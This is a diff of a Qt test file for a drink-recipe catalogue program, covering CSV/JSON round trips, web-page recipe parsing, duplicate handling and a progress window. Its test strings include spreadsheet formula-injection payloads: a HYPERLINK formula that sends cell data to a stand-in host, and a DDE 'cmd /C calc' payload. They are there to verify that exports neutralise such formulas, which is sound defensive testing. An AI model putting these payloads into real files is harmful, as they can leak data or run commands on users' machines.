@@ -9,6 +9,7 @@
 #include "data/Catalogue.h"
 #include "interchange/Interchange.h"
 #include "ui/FileChooser.h"
+#include "ui/WorkProgress.h"
 
 #include <QComboBox>
 #include <QCryptographicHash>
@@ -18,7 +19,12 @@
 #include <QProcess>
 #include <QPushButton>
 #include <QRadioButton>
+#include <QCheckBox>
+#include <QGroupBox>
+#include <QLabel>
 #include <QTableWidget>
+
+#include <sqlite3.h>
 
 using namespace pv::interchange;
 
@@ -46,6 +52,53 @@ void writeFile(const QString &path, const QByteArray &bytes)
     QFile f(path);
     QVERIFY(f.open(QIODevice::WriteOnly));
     f.write(bytes);
+}
+
+// Runs the program's command line; returns its exit code and stderr.
+QPair<int, QString> runProgram(const QStringList &args, const QString &folder)
+{
+    QProcess p;
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    // No display at all: the command line must not need one.
+    env.remove(QStringLiteral("DISPLAY"));
+    env.remove(QStringLiteral("WAYLAND_DISPLAY"));
+    env.remove(QStringLiteral("QT_QPA_PLATFORM"));
+    p.setProcessEnvironment(env);
+    p.setWorkingDirectory(folder);
+    p.start(QStringLiteral(PV_APP_DIR "/pourvale"), args);
+    if (!p.waitForFinished(60000) || p.exitStatus() != QProcess::NormalExit)
+        return {-1, QStringLiteral("did not finish")};
+    return {p.exitCode(), QString::fromUtf8(p.readAllStandardError())};
+}
+
+// Inserts rows of text, NULL where a value is null, with bound values.
+void insertRows(const QString &catalogue, const QString &table, const QStringList &columns,
+                const QList<QStringList> &rows)
+{
+    sqlite3 *db = nullptr;
+    QCOMPARE(sqlite3_open(catalogue.toUtf8().constData(), &db), SQLITE_OK);
+    QStringList cols, marks;
+    for (const QString &c : columns) {
+        cols << QLatin1Char('"') + c + QLatin1Char('"');
+        marks << QStringLiteral("?");
+    }
+    sqlite3_stmt *st = nullptr;
+    const QByteArray sql =
+        QStringLiteral("INSERT INTO \"%1\" (%2) VALUES (%3)").arg(table, cols.join(','), marks.join(',')).toUtf8();
+    QCOMPARE(sqlite3_prepare_v2(db, sql.constData(), -1, &st, nullptr), SQLITE_OK);
+    for (const QStringList &row : rows) {
+        for (int i = 0; i < row.size(); ++i) {
+            const QByteArray u = row[i].toUtf8();
+            if (row[i].isNull())
+                sqlite3_bind_null(st, i + 1);
+            else
+                sqlite3_bind_text(st, i + 1, u.constData(), int(u.size()), SQLITE_TRANSIENT);
+        }
+        QCOMPARE(sqlite3_step(st), SQLITE_DONE);
+        sqlite3_reset(st);
+    }
+    sqlite3_finalize(st);
+    sqlite3_close(db);
 }
 
 ImportOutcome importFile(const QString &catalogue, const QString &file, OnDuplicate choice = OnDuplicate::Skip)
@@ -82,6 +135,10 @@ class TestInterchange : public QObject {
 private Q_SLOTS:
     void roundTrip_data();
     void roundTrip();
+    void exactRoundTrip_data();
+    void exactRoundTrip();
+    void webPages_data();
+    void webPages();
     void duplicates_data();
     void duplicates();
     void badInput_data();
@@ -89,6 +146,7 @@ private Q_SLOTS:
     void refusedOrCancelledLeavesEverythingAsItWas();
     void commandLine();
     void fromTheMainWindow();
+    void progressOnlyWhileWorkRuns();
 };
 
 void TestInterchange::roundTrip_data()
@@ -163,6 +221,161 @@ void TestInterchange::roundTrip()
         }
 }
 
+void TestInterchange::exactRoundTrip_data()
+{
+    QTest::addColumn<QString>("suffix");
+    QTest::newRow("json") << "json";
+    QTest::newRow("csv") << "csv";
+}
+
+// Rows of every kind the windows or another program may leave, through the
+// program's own --export and --import into a new catalogue, compared
+// column for column.
+void TestInterchange::exactRoundTrip()
+{
+    QFETCH(QString, suffix);
+    QTemporaryDir dir;
+    const QString source = dir.filePath("source.mdb");
+    createEmptyCatalogue(source);
+    const QStringList texts = {
+        "",
+        "Rocks",
+        " Rocks ",
+        "Tiki Mug",
+        "Cocktail",
+        "Non-Alcoholic",
+        "a, b,, c",
+        "say \"hi\", \"\"twice\"\"",
+        "tab\there",
+        "line one\nline two\n",
+        "cr\ronly and crlf\r\n",
+        "Ünïcödé Çafé",
+        "中文 日本語 한국어",
+        "العربية עברית",
+        "🍸🍋 \u200d👩‍🍳",
+        "=HYPERLINK(\"http://example.invalid/?\"&A3,\"Click me\")",
+        "+cmd|' /C calc'!A0",
+        "-2 oz",
+        "@SUM(A1:A9)",
+        "'quoted already",
+        "'=not a formula",
+        "''",
+        "\tleading tab",
+        "\rleading cr",
+        "  padded  ",
+        "back\\slash \\n not a line end",
+        QString(6000, QLatin1Char('x')) + "end",
+    };
+    const QStringList columns = pv::drinkColumns();
+    QList<QStringList> rows;
+    for (int r = 0; r < 2 * texts.size(); ++r) {
+        QStringList row;
+        for (int c = 0; c < columns.size(); ++c)
+            row << texts[(r * 7 + c * 3) % texts.size()];
+        if (row[0].trimmed().isEmpty())
+            row[0] = QStringLiteral("Drink %1").arg(r);
+        rows << row;
+    }
+    // Two drinks of one name, and one whose empty fields are null.
+    rows << QStringList(columns.size(), QString("")) << QStringList(columns.size(), QString(""));
+    rows[rows.size() - 2][0] = rows[rows.size() - 1][0] = QStringLiteral("Twin");
+    rows[rows.size() - 1][1] = QStringLiteral("Rocks");
+    QStringList nulls(columns.size(), QString());
+    nulls[0] = QStringLiteral("Only a name");
+    rows << nulls;
+    insertRows(source, "drinklst", columns, rows);
+    // Collections with awkward texts too, and a text twice in one table.
+    insertRows(source, "joke", {"ID", "joke"}, {{"1", texts[15]}, {"2", texts[13]}, {"3", texts[13]}});
+    insertRows(source, "Toasting", {"Cat", "Toasts"}, {{texts[6], texts[9]}, {texts[16], texts[26]}});
+    insertRows(source, "cardgames", {"name", "instructions"}, {{texts[14], texts[10]}});
+
+    const QString file = dir.filePath("backup." + suffix);
+    QStringList exportArgs = {"--export", file, "--catalogue", source};
+    if (suffix == QLatin1String("json"))
+        exportArgs << "--collections";
+    auto [code, err] = runProgram(exportArgs, dir.path());
+    QVERIFY2(code == 0, qPrintable(err));
+    const QString fresh = dir.filePath("fresh.mdb");
+    std::tie(code, err) = runProgram({"--import", file, "--catalogue", fresh}, dir.path());
+    QVERIFY2(code == 0, qPrintable(err));
+    QVERIFY2(err.contains(QStringLiteral("Imported %1 drinks").arg(rows.size())), qPrintable(err));
+    QVERIFY2(err.contains("a glass with no picture: "), qPrintable(err));
+    QCOMPARE(allDrinks(fresh), allDrinks(source));
+    if (suffix == QLatin1String("json"))
+        for (const pv::CollectionTable &t : pv::collectionTables()) {
+            const QString sql = QStringLiteral("SELECT coalesce(\"%1\", '') || '|' || \"%2\" FROM \"%3\" ORDER BY rowid")
+                                    .arg(t.shortColumn, t.longColumn, t.table);
+            QCOMPARE(pvtest::queryColumn(fresh, sql), pvtest::queryColumn(source, sql));
+        }
+    if (suffix == QLatin1String("csv")) {
+        // No cell opens a formula in a spreadsheet.
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        const QByteArray bytes = f.readAll();
+        for (const char *live : {",=HYPERLINK", ",+cmd", ",-2 oz", ",@SUM", ",\"=HYPERLINK", "\n=", "\n+", "\n@"})
+            QVERIFY2(!bytes.contains(live), live);
+        QVERIFY(bytes.contains(",\"'=HYPERLINK(") && bytes.contains(",'@SUM(A1:A9),") &&
+                bytes.contains(",'-2 oz,") && bytes.contains(",''quoted already,"));
+    }
+    // Restored onto itself, a backup finds every drink a duplicate.
+    std::tie(code, err) = runProgram({"--import", file, "--catalogue", fresh}, dir.path());
+    QVERIFY2(code == 0 && err.contains(QStringLiteral("Imported 0 drinks; skipped %1 duplicates").arg(rows.size())),
+             qPrintable(err));
+}
+
+void TestInterchange::webPages_data()
+{
+    QTest::addColumn<QString>("page");
+    QTest::addColumn<QString>("error");
+    // Per drink: name | glass | categories | qty:ing;... | directions | notes
+    QTest::addColumn<QStringList>("drinks");
+    QTest::newRow("@graph, entities, a glass in the steps")
+        << "graph.html" << QString()
+        << QStringList{"Gin & Juice|Cocktail|Cocktail|2 oz:gin;1/2 oz:fresh lime juice;1 1/2 oz:grapefruit juice;"
+                       "3 dashes:Angostura bitters;:Lime wheel, for garnish|Shake the gin, juices and bitters with "
+                       "ice. Strain into a chilled coupe glass & garnish with the lime wheel.|the glass 'Cocktail' is "
+                       "taken from the directions"};
+    QTest::newRow("several recipes, too many ingredients and categories")
+        << "several.html" << QString()
+        << QStringList{"Garden Party Punch||Punch,Party,Summer|4 cups:apple juice;2 cups:white grape juice;1 "
+                       "cup:lemonade;1 cup:ginger ale;1/2 cup:lime juice;1/4 cup:honey syrup;2 sprigs:mint;1:orange, "
+                       "sliced;1:lemon, sliced;1 cup:strawberries|Stir the juices and syrup in a punch bowl. Add the "
+                       "fruit and ice; top with ginger ale.\n\nAlso: 1 cup blueberries; Ice|2 ingredients past the "
+                       "tenth put in the directions,categories past the third left out: Non-Alcoholic",
+                       "Café Royale ☕|Irish Coffee|Hot Drinks|1 cup:hot coffee;1 oz:cognac;1:sugar cube|Pour the "
+                       "coffee into an Irish coffee mug. Warm the cognac, pour it over the sugar and light it.|the "
+                       "glass 'Irish Coffee' is taken from the directions"};
+    QTest::newRow("microdata, unclosed items, a script and a comment")
+        << "microdata.html" << QString()
+        << QStringList{"Bee’s Knees|Cocktail|Gin Cocktails|2 oz:London dry gin;3/4 oz:fresh lemon juice;3/4 oz:honey "
+                       "syrup (1:1)|Shake everything hard with ice. Double strain into a cocktail glass.|the glass "
+                       "'Cocktail' is taken from the directions"};
+    QTest::newRow("no recipe") << "norecipe.html"
+                               << "The page holds no recipe (no schema.org Recipe as JSON-LD or microdata)."
+                               << QStringList();
+    QTest::newRow("broken JSON-LD") << "broken.html" << "the JSON-LD at line 3 is not valid JSON" << QStringList();
+}
+
+void TestInterchange::webPages()
+{
+    QFETCH(QString, page);
+    QFETCH(QString, error);
+    QFETCH(QStringList, drinks);
+    const ReadResult r = readDrinkFile(QStringLiteral(PV_SOURCE_DIR "/tests/interchange/pages/") + page);
+    QVERIFY2(error.isEmpty() ? r.error.isEmpty() : r.error.contains(error), qPrintable(r.error));
+    QStringList got;
+    for (const Entry &e : r.entries) {
+        QStringList ings;
+        for (const auto &i : e.drink.ingredients)
+            ings << i.first + ':' + i.second;
+        got << QStringList{e.drink.name, e.drink.glass, e.drink.categories.join(','), ings.join(';'),
+                           e.drink.directions, e.notes.join(',')}
+                   .join('|');
+        QVERIFY2(e.refusal.isEmpty(), qPrintable(e.refusal));
+    }
+    QCOMPARE(got, drinks);
+}
+
 void TestInterchange::duplicates_data()
 {
     QTest::addColumn<QList<int>>("choices"); // per file entry
@@ -173,16 +386,14 @@ void TestInterchange::duplicates_data()
                                 "Negroni",     "Pink Gin",   "Planter's Punch", "Shirley Temple"};
     QStringList replaced = before;
     replaced[4] = QStringLiteral("NÉGRONI");
-    QStringList replacedTwice = before;
-    replacedTwice[4] = QStringLiteral("negroni");
-    QTest::newRow("skip") << QList<int>{skip, skip, skip} << before + QStringList{"Zombie"}
-                          << "Imported 1 drink; skipped 2 duplicates";
-    QTest::newRow("replace") << QList<int>{replace, replace, replace} << replacedTwice + QStringList{"Zombie"}
-                             << "Imported 1 drink; replaced 2 duplicates";
+    // The file's second negroni meets no second Negroni in the catalogue:
+    // drinks of one file are not duplicates of each other.
+    QTest::newRow("skip") << QList<int>{skip, skip, skip} << before + QStringList{"Zombie", "negroni"}
+                          << "Imported 2 drinks; skipped 1 duplicate";
+    QTest::newRow("replace") << QList<int>{replace, replace, replace} << replaced + QStringList{"Zombie", "negroni"}
+                             << "Imported 2 drinks; replaced 1 duplicate";
     QTest::newRow("keep both") << QList<int>{both, both, both}
-                               << before + QStringList{"NÉGRONI (2)", "Zombie", "negroni (3)"} << "Imported 3 drinks";
-    QTest::newRow("each its own") << QList<int>{replace, skip, both} << replaced + QStringList{"Zombie", "negroni (2)"}
-                                  << "Imported 2 drinks; replaced 1 duplicate";
+                               << before + QStringList{"NÉGRONI (2)", "Zombie", "negroni"} << "Imported 3 drinks";
 }
 
 void TestInterchange::duplicates()
@@ -199,7 +410,8 @@ void TestInterchange::duplicates()
         {"name": "negroni", "glass": "Old-Fashioned"}]})",
                                        Format::Json);
     ImportPlan plan = planImport(app.catalogue(), read);
-    QCOMPARE(plan.count(PlanItem::Duplicate), 2);
+    QCOMPARE(plan.count(PlanItem::Duplicate), 1);
+    QCOMPARE(plan.items[2].status, PlanItem::New);
     QCOMPARE(plan.items[0].duplicateOf, QStringLiteral("Negroni"));
     for (int i = 0; i < 3; ++i)
         plan.items[i].choice = OnDuplicate(choices[i]);
@@ -208,7 +420,7 @@ void TestInterchange::duplicates()
     QCOMPARE(outcome.summary(), summary);
     QCOMPARE(pvtest::queryColumn(app.catalogue(), "SELECT DrinkName FROM drinklst ORDER BY rowid"), names);
     // A replaced drink keeps its place and takes every field of the new one.
-    if (choices[0] == int(OnDuplicate::Replace) && choices[2] != int(OnDuplicate::Replace))
+    if (choices[0] == int(OnDuplicate::Replace))
         QCOMPARE(pvtest::queryColumn(app.catalogue(),
                                      "SELECT Glass || Category1 || Directions || Ing1 FROM drinklst WHERE rowid = 5"),
                  QStringList{"CocktailGinStirred."});
@@ -231,7 +443,10 @@ void TestInterchange::badInput_data()
     QTest::newRow("quoted commas and line breaks")
         << QByteArray(
                "DrinkName,Directions,Glass\n\"Gin, Tonic\",\"Build.\nStir \"\"well\"\".\",Highball\nNext,,Tiki Mug\n")
-        << QString() << QStringList{"line 2|Gin, Tonic|", "line 4|Next|glass 'Tiki Mug' is not one of the twenty"};
+        << QString() << QStringList{"line 2|Gin, Tonic|", "line 4|Next|"};
+    QTest::newRow("CSV nameless rows") << QByteArray("Glass,DrinkName\nShot,\nShot,  \nTiki Mug,X\n") << QString()
+                                       << QStringList{"line 2||the drink has no name",
+                                                      "line 3|  |the drink has no name", "line 4|X|"};
     QTest::newRow("CSV cut short") << QByteArray("DrinkName,Directions\nGimlet,\"Shake and")
                                    << "line 2: a quoted field is not closed (is the file cut short?)" << QStringList();
     QTest::newRow("CSV short row") << QByteArray("DrinkName,Glass,Directions\nGimlet,Cocktail\n") << QString()
@@ -339,59 +554,64 @@ void TestInterchange::commandLine()
 {
     pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
     QTemporaryDir dir;
-    const QString program = QStringLiteral(PV_APP_DIR "/pourvale");
-    writeFile(dir.filePath("bad.csv"), "DrinkName,Glass\nZombie,Collins\nTiki Thing,Tiki Mug\n");
-    writeFile(dir.filePath("good.csv"), "DrinkName,Glass\nZombie,Collins\nnegroni,Cocktail\n");
+    // One nameless drink among good ones; glasses the program has no
+    // picture for are kept.
+    writeFile(dir.filePath("bad.csv"), "DrinkName,Glass\nZombie,Collins\n,Shot\nTiki Thing,Tiki Mug\n");
+    writeFile(dir.filePath("good.csv"), "DrinkName,Glass\nZombie,Collins\nnegroni,Rocks\n");
     const QString cat = app.catalogue();
     struct Run {
         QStringList args;
         int exitCode;
         QString stderrHas;
+        bool changes; // the catalogue afterwards
     };
+    // Paths a message names exactly once.
+    const QStringList namedOnce = {dir.path() + "/pv.mdb", dir.filePath("gone.json")};
     const QList<Run> runs = {
-        {{"--version"}, 0, ""},
-        {{"--help"}, 0, ""},
-        {{"--export"}, 2, "--export needs a value"},
-        {{"--export", "x.json", "--format", "xml"}, 2, "--format must be json, csv or jsonld"},
-        {{"--import", "a", "--export", "b"}, 2, "give either --export FILE or --import FILE"},
-        {{"--exprot", "x.json"}, 2, "unknown argument '--exprot'"},
-        {{"--export", dir.filePath("all.jsonld"), "--catalogue", cat}, 0, "Exported 8 drinks"},
-        {{"--export", dir.filePath("nowhere/x.json"), "--catalogue", cat}, 1, "cannot be written"},
-        {{"--export", dir.filePath("x.json"), "--catalogue", dir.filePath("missing.mdb")}, 1, "does not exist"},
+        {{"--version"}, 0, "", false},
+        {{"--help"}, 0, "", false},
+        {{"--export"}, 2, "--export needs a value", false},
+        {{"--export", "x.json", "--format", "xml"}, 2, "--format must be json, csv or jsonld", false},
+        {{"--import", "a", "--export", "b"}, 2, "give either --export FILE or --import FILE", false},
+        {{"--exprot", "x.json"}, 2, "unknown argument '--exprot'", false},
+        {{"--export", "x.json", "--strict"}, 2, "--strict belongs to --import", false},
+        {{"--export", dir.filePath("all.jsonld"), "--catalogue", cat}, 0, "Exported 8 drinks", false},
+        {{"--export", dir.filePath("nowhere/x.json"), "--catalogue", cat}, 1, "cannot be written", false},
+        {{"--export", dir.filePath("x.json"), "--catalogue", dir.filePath("missing.mdb")}, 1, "does not exist", false},
+        {{"--import", dir.filePath("bad.csv"), "--catalogue", cat, "--strict"},
+         1,
+         "line 3: the drink has no name\npourvale: refused 1; nothing was imported (--strict).",
+         false},
         {{"--import", dir.filePath("bad.csv"), "--catalogue", cat},
          1,
-         "line 3: glass 'Tiki Mug' is not one of the twenty"},
+         "line 3: the drink has no name\nImported 2 drinks; refused 1 (line 3: the drink has no name).\n"
+         "1 drink uses a glass with no picture: Tiki Mug.",
+         true},
         {{"--import", dir.filePath("good.csv"), "--catalogue", cat, "--on-duplicate", "keep-both"},
          0,
-         "Imported 2 drinks"},
-        {{"--import", dir.filePath("all.jsonld"), "--catalogue", dir.filePath("restored.mdb")}, 0, "Imported 8 drinks"},
+         "Imported 2 drinks.\n1 drink uses a glass with no picture: Rocks.\n"
+         "Left as written; File > Import offers: Use the glass 'Old-Fashioned' for 'Rocks' (1 drink).",
+         true},
+        {{"--import", dir.filePath("all.jsonld"), "--catalogue", dir.filePath("restored.mdb")},
+         0,
+         "Imported 8 drinks",
+         false},
+        {{"--export", dir.filePath("y.json"), "--catalogue", dir.path()}, 1, "is a folder", false},
+        {{"--import", dir.filePath("good.csv"), "--catalogue", dir.path()}, 1, "is a folder", false},
+        {{"--import", dir.filePath("gone.json"), "--catalogue", cat}, 1, "does not exist", false},
     };
     QByteArray hash = fileHash(cat);
     for (const Run &run : runs) {
-        QProcess p;
-        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
-        // No display at all: the command line must not need one.
-        env.remove(QStringLiteral("DISPLAY"));
-        env.remove(QStringLiteral("WAYLAND_DISPLAY"));
-        env.remove(QStringLiteral("QT_QPA_PLATFORM"));
-        p.setProcessEnvironment(env);
-        p.setWorkingDirectory(dir.path());
-        p.start(program, run.args);
-        QVERIFY(p.waitForFinished(30000));
-        const QString err = QString::fromUtf8(p.readAllStandardError());
-        QVERIFY2(p.exitStatus() == QProcess::NormalExit && p.exitCode() == run.exitCode,
-                 qPrintable(run.args.join(' ') + " -> " + QString::number(p.exitCode()) + ": " + err));
+        const auto [code, err] = runProgram(run.args, dir.path());
+        QVERIFY2(code == run.exitCode, qPrintable(run.args.join(' ') + " -> " + QString::number(code) + ": " + err));
         QVERIFY2(err.contains(run.stderrHas), qPrintable(err));
-        if (run.args.first() == QLatin1String("--version"))
-            QCOMPARE(p.readAllStandardOutput(), QByteArray("Pourvale 3.1.0\n"));
-        // Only a successful import touches the catalogue.
-        const bool changes =
-            run.exitCode == 0 && run.args.first() == QLatin1String("--import") && run.args.contains(cat);
-        QCOMPARE(fileHash(cat) != hash, changes);
+        for (const QString &path : namedOnce)
+            QVERIFY2(!err.contains(path) || err.count(path) == 1, qPrintable(err));
+        QCOMPARE(fileHash(cat) != hash, run.changes);
         hash = fileHash(cat);
     }
-    QCOMPARE(pvtest::queryColumn(cat, "SELECT DrinkName FROM drinklst WHERE rowid > 8"),
-             (QStringList{"Zombie", "negroni (2)"}));
+    QCOMPARE(pvtest::queryColumn(cat, "SELECT DrinkName || '|' || Glass FROM drinklst WHERE rowid > 8"),
+             (QStringList{"Zombie|Collins", "Tiki Thing|Tiki Mug", "Zombie (2)|Collins", "negroni (2)|Rocks"}));
     QCOMPARE(pvtest::queryColumn(dir.filePath("restored.mdb"), "SELECT count(*) FROM Gin"), QStringList{"4"});
 }
 
@@ -422,27 +642,35 @@ void TestInterchange::fromTheMainWindow()
     QCOMPARE(msgs.last(), QStringLiteral("Exported 4 drinks to %1.").arg(QDir::toNativeSeparators(nextFile + ".csv")));
     QCOMPARE(readDrinkFile(nextFile + ".csv").entries.size(), 4);
 
-    // A hand-made CSV with a duplicate, a bad row and a new drink.
+    // A hand-made CSV with a duplicate, a nameless row, a new drink and one
+    // in a glass written otherwise.
     nextFile = dir.filePath(QStringLiteral("hand.csv"));
     writeFile(nextFile, "DrinkName,Glass,Category1,Qty1,Ing1\r\n\"Pink gin\",Cocktail,Gin,2 oz,Gin\r\n"
-                        "Tiki Thing,Tiki Mug,Tropical,,\r\nGin Fizz,Highball,Gin,2 oz,Gin\r\n");
+                        ",Tiki Mug,Tropical,,\r\nGin Fizz,Highball,Gin,2 oz,Gin\r\nGin Rickey,rocks glass,Gin,2 oz,Gin\r\n");
     onDialog(QStringLiteral("frmImportPreview"), [](QWidget *w) {
         auto *d = static_cast<pv::ImportPreview *>(w);
         QStringList actions;
         for (int row = 0; row < d->grdPreview->rowCount(); ++row)
-            actions << d->grdPreview->item(row, 2)->text();
-        QCOMPARE(actions, (QStringList{"Skip", "Refused", "Add"}));
+            actions << d->grdPreview->item(row, 2)->text() + ": " + d->grdPreview->item(row, 3)->text();
+        QCOMPARE(actions, (QStringList{"Skip: already there as 'Pink Gin'", "Refused: the drink has no name", "Add: ",
+                                       "Add: glass 'rocks glass' has no picture"}));
+        QCOMPARE(d->lblNotes->text(), QStringLiteral("1 drink uses a glass with no picture: rocks glass"));
+        QCOMPARE(d->chkOffers.size(), 1);
+        QCOMPARE(d->chkOffers[0]->text(), QStringLiteral("Use the glass 'Old-Fashioned' for 'rocks glass' (1 drink)"));
+        QVERIFY(!d->chkOffers[0]->isChecked());
+        QTest::mouseClick(d->chkOffers[0], Qt::LeftButton);
         d->cboAllDuplicates->setCurrentIndex(2);
         QTest::mouseClick(d->cmdApplyAll, Qt::LeftButton);
         QCOMPARE(d->grdPreview->item(0, 2)->text(), QStringLiteral("Keep both"));
         QTest::mouseClick(d->cmdImport, Qt::LeftButton);
     });
     trigger("mnuFileImport");
-    QCOMPARE(msgs.last(),
-             QStringLiteral("Imported 2 drinks; refused 1 (line 3: glass 'Tiki Mug' is not one of the twenty)."));
+    QCOMPARE(msgs.last(), QStringLiteral("Imported 3 drinks; refused 1 (line 3: the drink has no name)."));
+    QCOMPARE(pvtest::queryColumn(app.catalogue(), "SELECT Glass FROM drinklst WHERE DrinkName = 'Gin Rickey'"),
+             QStringList{"Old-Fashioned"});
     // Still on its drink, and the Gin list holds the new ones.
     QCOMPARE(main->fieldText(0), shown);
-    QCOMPARE(main->Data1->recordset().RecordCount(), 6);
+    QCOMPARE(main->Data1->recordset().RecordCount(), 7);
 
     // The recipe on screen as a PDF, read back.
     nextFile = dir.filePath(QStringLiteral("recipe.pdf"));
@@ -453,10 +681,93 @@ void TestInterchange::fromTheMainWindow()
     p.start(QStringLiteral("pdftotext"), {nextFile, QStringLiteral("-")});
     QVERIFY(p.waitForFinished(30000));
     const QString text = QString::fromUtf8(p.readAllStandardOutput());
-    QVERIFY2(text.contains(QStringLiteral("Drink's Name: ") + shown) && text.contains(QStringLiteral("Pourvale")) &&
-                 text.contains(QStringLiteral("Directions:")),
+    // The drink's name is the heading, the first line of the page.
+    QVERIFY2(text.trimmed().startsWith(shown) && text.contains(QStringLiteral("Directions")) &&
+                 text.contains(QStringLiteral("Gin")),
              qPrintable(text));
     pv::setFileChooser(previous);
+    pvtest::unloadAll();
+}
+
+// Export and import from the File menu: the progress window is up while the
+// work runs and gone before the message about its end, and it does not come
+// back while that message is read.
+void TestInterchange::progressOnlyWhileWorkRuns()
+{
+    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
+    QTemporaryDir dir;
+    QString nextFile;
+    const auto previousChooser = pv::setFileChooser([&](const pv::FileRequest &) { return nextFile; });
+    pv::WorkProgress::setDelayMs(0);
+    auto progressShown = [] {
+        for (QWidget *w : QApplication::topLevelWidgets())
+            if (w->objectName() == QLatin1String("dlgProgress") && w->isVisible())
+                return true;
+        return false;
+    };
+    // What the message saw, and whether the window showed before it.
+    struct Seen {
+        QString prompt;
+        bool progressUnder = false;
+        bool progressAfter = false;
+    } seen;
+    bool shownWhileRunning = false;
+    QTimer watch;
+    QObject::connect(&watch, &QTimer::timeout, [&] { shownWhileRunning = shownWhileRunning || progressShown(); });
+    watch.start(1);
+    const auto previousBox = pv::Screen().setMsgBoxHandler([&](const pv::MsgBoxCall &call) {
+        seen.prompt = call.prompt;
+        seen.progressUnder = progressShown();
+        // The message stays up a while, as a person reads it.
+        QElapsedTimer t;
+        t.start();
+        while (t.elapsed() < 700) {
+            QApplication::processEvents(QEventLoop::AllEvents, 20);
+            seen.progressAfter = seen.progressAfter || progressShown();
+        }
+        return int(pv::vbOK);
+    });
+    auto *main = pv::Screen().Load<frmMain>();
+    pv::Screen().Show(main);
+    QTRY_VERIFY(main->Data1->cursor());
+    auto trigger = [main](const char *name) { main->findChild<QAction *>(QLatin1String(name))->trigger(); };
+
+    QByteArray csv = "DrinkName,Glass,Category1,Qty1,Ing1\r\n";
+    for (int i = 0; i < 1100; ++i)
+        csv += QStringLiteral("Test Gin %1,Cocktail,Gin,2 oz,Gin\r\n").arg(i, 4, 10, QLatin1Char('0')).toUtf8();
+    writeFile(dir.filePath("many.csv"), csv);
+    struct Step {
+        const char *command;
+        const char *dialog;
+        const char *button;
+        QString file;
+        QString said;
+        bool long_; // long enough to report before its end
+    };
+    const QList<Step> steps = {
+        {"mnuFileExport", "frmExport", "cmdExport", dir.filePath("few.json"), "Exported 8 drinks", false},
+        {"mnuFileImport", "frmImportPreview", "cmdImport", dir.filePath("many.csv"), "Imported 1100 drinks", true},
+        {"mnuFileExport", "frmExport", "cmdExport", dir.filePath("all.json"), "Exported 1108 drinks", true},
+    };
+    for (const Step &step : steps) {
+        seen = Seen();
+        shownWhileRunning = false;
+        nextFile = step.file;
+        const QString button = QLatin1String(step.button);
+        onDialog(QLatin1String(step.dialog), [button](QWidget *w) {
+            QTest::mouseClick(w->findChild<QPushButton *>(button), Qt::LeftButton);
+        });
+        trigger(step.command);
+        QVERIFY2(seen.prompt.startsWith(step.said), qPrintable(seen.prompt));
+        QVERIFY2(!seen.progressUnder, step.command);
+        QVERIFY2(!seen.progressAfter, step.command);
+        QCOMPARE(progressShown(), false);
+        if (step.long_)
+            QVERIFY2(shownWhileRunning, step.command);
+    }
+    pv::Screen().setMsgBoxHandler(previousBox);
+    pv::setFileChooser(previousChooser);
+    pv::WorkProgress::setDelayMs(400);
     pvtest::unloadAll();
 }
 
